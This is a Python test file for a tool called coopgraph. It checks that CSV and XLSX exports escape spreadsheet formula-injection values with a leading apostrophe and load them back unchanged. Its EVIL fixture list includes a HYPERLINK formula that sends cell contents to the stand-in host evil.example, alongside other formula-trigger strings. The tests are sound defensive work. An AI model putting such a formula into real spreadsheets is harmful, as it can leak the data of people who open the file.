"""Exports are spreadsheet-safe (OWASP CSV injection): a cell a spreadsheet would evaluate is
written with a leading apostrophe, in every CSV and XLSX coopgraph writes, and loads back as itself."""
import io

import networkx as nx
import openpyxl
import pandas as pd

from coopgraph.cells import escape, unescape
from coopgraph.analysis.exports import export_graph

from conftest import run_cli

EVIL = ['=HYPERLINK("http://evil.example/?x="&A1, "clic")', "+57 1 3813000", "-2+3", "@SUMA(A1)", "-- nota",
        "'=ya escapado"]


def test_escape_is_undone_by_unescape():
    for value in [*EVIL, "\tTAB", "\rx", "'", "''", "BID", "", "año"]:
        assert unescape(escape(value)) == value
        assert escape(value)[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_interaction_exports_escape_formulas_and_load_back_the_same(home, tmp_path):
    source = tmp_path / "globo.csv"
    pd.DataFrame({"id_interaccion": [f"G-{i}" for i in range(len(EVIL))], "año": ["2023"] * len(EVIL),
                  "entidad_distrital": ["SDM"] * len(EVIL), "cooperante": ["BANCO MUNDIAL"] * len(EVIL),
                  "descripcion": [escape(v) for v in EVIL]}).to_csv(source, index=False)
    assert run_cli(["load", str(source)], home).returncode == 0
    csv_out, xlsx_out = tmp_path / "out.csv", tmp_path / "out.xlsx"
    assert run_cli(["export", "interactions", "-o", str(csv_out)], home).returncode == 0
    assert run_cli(["export", "interactions", "-o", str(xlsx_out)], home).returncode == 0
    written = pd.read_csv(csv_out, dtype=str, keep_default_na=False)
    assert sorted(written.descripcion) == sorted(escape(v) for v in EVIL)
    assert all(not cell.startswith(("=", "+", "-", "@")) for cell in csv_out.read_text(encoding="utf-8").split(","))
    sheet = openpyxl.load_workbook(xlsx_out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula
    other = tmp_path / "otra"
    for exported in (csv_out, xlsx_out):
        result = run_cli(["load", str(exported)], other)
        assert result.returncode == 0, result.stderr
    again = tmp_path / "again.csv"
    assert run_cli(["export", "interactions", "-o", str(again)], other).returncode == 0
    assert sorted(pd.read_csv(again, dtype=str, keep_default_na=False).descripcion) == sorted(written.descripcion)


def test_graph_csv_export_escapes_names():
    graph = nx.Graph()
    graph.add_node("a", name=EVIL[0])
    graph.add_node("b", name="-SDM")
    graph.add_edge("a", "b", weight=2, relation="@x")
    rows = list(pd.read_csv(io.BytesIO(export_graph(graph, "csv")), dtype=str).itertuples(index=False))
    assert rows[0].source_name == escape(EVIL[0]) and rows[0].target_name == "'-SDM" and rows[0].Label == "'@x"
